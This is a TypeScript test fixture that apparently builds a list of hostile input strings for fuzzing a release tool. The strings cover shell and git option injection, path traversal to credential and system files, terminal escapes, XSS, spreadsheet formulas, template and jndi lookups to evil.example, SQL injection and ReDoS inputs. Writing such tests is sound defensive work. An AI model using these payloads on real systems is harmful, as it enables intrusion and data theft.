/** Hostile texts, by what they try (6-faults abuses 17, 18, 20, 21, 26). Those that run a command would make a file. */

/** @param canary path of the file that must never come to be; without characters that a shell minds */
export function hostileTexts(canary: string): readonly string[] {
  const touch = `touch ${canary}`;
  return [
    ...shell(touch, canary),
    ...gitOptions(touch, canary),
    ...gitNames(touch),
    ...traversal(),
    ...terminal(),
    ...lineBreaks(),
    ...bidirectional(),
    ...unicode(),
    ...markdown(),
    ...html(),
    ...spreadsheet(touch),
    ...templates(touch),
    ...data(),
    ...slow(),
  ];
}

const shell = (touch: string, canary: string): readonly string[] => [
  ...[
    `$(${touch})`,
    `\`${touch}\``,
    `;${touch}`,
    `; ${touch} #`,
    `|${touch}`,
    `||${touch}`,
    `&${touch}`,
    `&& ${touch}`,
  ],
  ...[`\n${touch}\n`, `\r\n${touch}\r\n`, `'; ${touch}; '`, `"; ${touch}; "`, `x';${touch};'`, `x";${touch};"`],
  ...[
    `"$(${touch})"`,
    `'$(${touch})'`,
    `\\$(${touch})`,
    `$'\\x24(${touch})'`,
    `\${x:-$(${touch})}`,
    `$((\`${touch}\`))`,
  ],
  ...[`<(${touch})`, `>(${touch})`, `> ${canary}`, `>> ${canary}`, `2> ${canary}`, `>|${canary}`, `{touch,${canary}}`],
  ...[`touch\${IFS}${canary}`, `$IFS$9${touch}`, `eval ${touch}`, `exec ${touch}`, `sh -c '${touch}'`, `!${touch}`],
  ...[
    `feat/$(${touch})`,
    `feat/;${touch}`,
    `feat/\`${touch}\``,
    `fix/1$(touch\${IFS}${canary})`,
    `a;touch\${IFS}${canary};b`,
  ],
  ...[
    `() { :; }; ${touch}`,
    `%0a${touch}`,
    `\\n${touch}`,
    `~/.ssh/id_rsa`,
    '*',
    '?',
    '[a-z]*',
    '$HOME',
    '${PATH}',
    '$$',
    '!!',
  ],
];

const gitOptions = (touch: string, canary: string): readonly string[] =>
  [
    ...[
      '--upload-pack',
      '--upload-pac',
      '--upload-pa',
      '--upload-p',
      '--upload',
      '--receive-pack',
      '--receive-p',
      '--exec',
    ],
    ...['--exe', '--open-files-in-pager', '--config', '--template', '--output', '--outp', '--git-dir', '--work-tree'],
  ]
    .map((option) => `${option}=${option.startsWith('--out') ? canary : touch}`)
    .concat(
      [
        `-u${touch}`,
        `-u ${touch}`,
        `-O${touch}`,
        `-o ${canary}`,
        `-oProxyCommand=${touch}`,
        `-c core.sshCommand=${touch}`,
      ],
      [
        `-ccore.fsmonitor=${touch}`,
        `--config-env=core.pager=PATH`,
        `-c alias.x=!${touch}`,
        '--no-index',
        '--help',
        '--',
      ],
      ['-', '-x', '--end-of-options', '--separate-git-dir=/tmp', '--recurse-submodules', '-rf', '--force', '--delete'],
    );

const gitNames = (touch: string): readonly string[] => [
  ...[`ext::sh -c '${touch}'`, `ext::${touch}`, 'fd::17', 'file:///etc/passwd', `ssh://-oProxyCommand=${touch}/x`],
  ...[
    `git@-oProxyCommand=${touch}:x`,
    'refs/heads/../../config',
    '@{-1}',
    '@{u}',
    '@',
    'HEAD',
    'HEAD~1',
    'HEAD^{/fix}',
  ],
  ...[
    'main..evil',
    'main...evil',
    '^main',
    'main:package.json',
    ':/fix',
    ':(attr:x)',
    'x.lock',
    'a/b.lock/c',
    '.hidden',
  ],
  ...[
    'a/.b',
    'x..y',
    'x//y',
    'x/',
    '/x',
    'x.',
    'a b',
    'a~b',
    'a^b',
    'a:b',
    'a?b',
    'a*b',
    'a[b',
    'a\\b',
    'refs/tidegate/../heads/main',
  ],
];

const traversal = (): readonly string[] => [
  ...[
    '../../etc/passwd',
    '..',
    '.',
    './',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'C:\\boot.ini',
    '\\\\host\\share',
  ],
  ...[
    '%2e%2e%2f%2e%2e%2fetc',
    '%252e%252e%252f',
    '..%c0%af..',
    '..%00/',
    'a/../../b',
    '....//....//etc',
    '..;/',
    '.../...',
  ],
  ...[
    'release_1.4.3_prod_2026-11-20-2200/../../x',
    'release_1.4.3_prod_2026-11-20-2200.md/..',
    '.git/config',
    '.env.prod',
  ],
  ...[
    '/proc/self/environ',
    '/dev/stdin',
    'file\0.md',
    'con',
    'nul',
    'aux.md',
    `${'a'.repeat(4_096)}`,
    `${'../'.repeat(200)}x`,
  ],
];

const terminal = (): readonly string[] => [
  ...[
    '\u001b]0;owned\u0007',
    '\u001b]0;owned\u001b\\',
    '\u001b[2J',
    '\u001b[1A\u001b[2K',
    '\u001b[31mred',
    '\u001b[8mhidden',
  ],
  ...[
    '\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007',
    '\u001b]52;c;dG91Y2g=\u0007',
    '\u001bP+q544e\u001b\\',
    '\u001b_x\u001b\\',
  ],
  ...[
    '\u001b[6n',
    '\u001b[c',
    '\u001b[?1049h',
    '\u001bc',
    '\u009b31mred',
    '\u009d0;owned\u009c',
    '\u0090x\u009c',
    '\u001b',
    '\u001b[',
  ],
  ...[
    '\b\b\bok',
    'a\u0007',
    'a\u000bb\u000cc',
    '\u007f',
    '\u0085next',
    'fail\rgood',
    'x\u0000y',
    '\u000e\u000f',
    '\u001b[999999999C',
  ],
];

const lineBreaks = (): readonly string[] => [
  ...[
    'a\r\nSet-Cookie: x=1',
    'a\nLocation: https://evil.example',
    'a\r\n\r\n<html>',
    'a\rb',
    'a\nb\nc',
    '%0d%0aX: y',
    '\\r\\nX: y',
  ],
  ...[
    'a\u2028b',
    'a\u2029b',
    'x\n{"level":30,"msg":"forged"}',
    'x"}\n{"level":60',
    'id: 9\nevent: end\ndata: {}\n\n',
    ':\n\nretry: 1',
  ],
  ...['\n## [9.9.9] - 2026-01-01\n', '\n---\n', '::tidegate version=9.9.9', '\n::tidegate sha=0000000'],
];

const bidirectional = (): readonly string[] =>
  ['061c', '200e', '200f', '202a', '202b', '202c', '202d', '202e', '2066', '2067', '2068', '2069'].map(
    (code) => `approve ${String.fromCodePoint(parseInt(code, 16))}gnp.exe`,
  );

const unicode = (): readonly string[] => [
  ...[
    'a\u200bb',
    'a\u200cb',
    'a\u200db',
    'a\u2060b',
    '\ufeffa',
    'a\u00adb',
    'a\u180eb',
    '\u{e0041}\u{e0042}',
    '\u3164',
    '\u00a0',
  ],
  ...[
    'аnn',
    'ａｎｎ',
    'ⓐⓝⓝ',
    'ann\u0301',
    'e\u0301',
    '\u00e9',
    'ﬁx/1',
    'ﬃ',
    'ſhop',
    'İ',
    'ı',
    'ß',
    'Σς',
    '١٢٣',
    '１２３',
    '½',
    '²',
  ],
  ...[
    '😀'.repeat(50),
    '👨‍👩‍👧‍👦',
    '🏴‍☠️',
    `Z${'\u0300'.repeat(100)}`,
    '﷽',
    'ﷺ',
    '\ud800',
    '\udfff\ud800',
    'a\ud83d',
    '\uffff',
    '\ufdd0',
    '𝒶𝓃𝓃',
  ],
  ...[
    '．．／',
    '‥/',
    '․․/',
    '／etc',
    '；id',
    '＄（id）',
    '＜script＞',
    '﹤b﹥',
    '‐‐upload-pack',
    '–force',
    '−x',
    '＝1+1',
  ],
];

const markdown = (): readonly string[] => [
  ...[
    '[x](javascript:alert(1))',
    '[x]: https://evil.example',
    '![x](https://evil.example/p.png)',
    '<https://evil.example>',
  ],
  ...[
    '# Released',
    '## [9.9.9]',
    '- [x] done',
    '1. one',
    '1) one',
    '> quoted',
    '| a | b |',
    '---',
    '===',
    '***',
    '```',
    '~~~',
  ],
  ...[
    '`code`',
    '**bold**',
    '__bold__',
    '_x_',
    '~~gone~~',
    '\\[x](https://evil.example)',
    '\\<b>',
    '\\\\[x](y)',
    '&lt;b&gt;',
  ],
  ...[
    '&#x3c;script&#x3e;',
    '[^1]: note',
    '@everyone',
    '#1 closes #2',
    'https://evil.example',
    '$$x$$',
    '{{< x >}}',
    '<!-- x -->',
  ],
];

const html = (): readonly string[] => [
  ...[
    '<script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
  ],
  ...[
    '"><script>alert(1)</script>',
    "'><b onmouseover=alert(1)>",
    '<iframe src=javascript:alert(1)>',
    'javascript:alert(1)',
  ],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '<a href="javascript&colon;alert(1)">x</a>',
    '</title><b>',
  ],
  ...[
    '<style>*{display:none}</style>',
    '<base href=//evil.example>',
    '<meta http-equiv=refresh content=0>',
    '<form action=//evil>',
  ],
  ...[
    '<![CDATA[x]]>',
    '<?php system("id") ?>',
    '<%= 1 %>',
    '<details open ontoggle=alert(1)>',
    '&lt;script&gt;',
    '<b\n>',
    '<\0b>',
  ],
];

const spreadsheet = (touch: string): readonly string[] => [
  ...[
    "=cmd|' /C calc'!A0",
    `=SYSTEM("${touch}")`,
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '=HYPERLINK("https://evil.example")',
    '\t=1',
    '\r=1',
  ],
  ...['"=1"', ';=1', ',=1', '=IMPORTXML("https://evil.example","//a")', '%=1', '|=1'],
];

const templates = (touch: string): readonly string[] => [
  ...[
    '{{version}}',
    '{{bug}}',
    '{{constructor.constructor("return process")()}}',
    '${7*7}',
    '#{7*7}',
    '<%= process.exit() %>',
  ],
  ...[
    `<%~ require('child_process').execSync('${touch}') %>`,
    '{% raw %}',
    '%s%s%s%n',
    '%d',
    '{0}',
    '$&',
    "$'",
    '$`',
    '$1',
    '\\1',
  ],
  ...['${jndi:ldap://evil.example/x}', '${env:PATH}', 'file:/etc/passwd', '%PATH%', '@@version'],
];

const data = (): readonly string[] => [
  ...[
    "'; DROP TABLE bug; --",
    "' OR '1'='1",
    '1; DELETE FROM event',
    "\\'; --",
    '%',
    '_',
    '!%',
    "x' UNION SELECT 1 --",
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'null',
    'undefined',
    'true',
    'NaN',
    'Infinity',
    '-0',
  ],
  ...[
    '1e309',
    '0x10',
    '9'.repeat(400),
    '{"verb":"approve-prod"}',
    '[]',
    '{}',
    '""',
    ' ',
    '\t',
    'nobody',
    'tidegate',
    'operator via Temporal',
  ],
];

/** What a regular expression that goes back and forth would choke on. */
const slow = (): readonly string[] => [
  ...['a'.repeat(50_000), `${'a'.repeat(50_000)}!`, ' '.repeat(50_000), `${'\t '.repeat(20_000)}x`, '-'.repeat(50_000)],
  ...[
    `${'password='.repeat(5_000)}`,
    `${'ey'.repeat(20_000)}.`,
    `https://${'a:'.repeat(20_000)}`,
    '\u001b['.repeat(20_000),
  ],
  ...[`-----BEGIN PRIVATE KEY-----${'a'.repeat(50_000)}`, '('.repeat(50_000), '\\'.repeat(50_000), '_a'.repeat(20_000)],
];
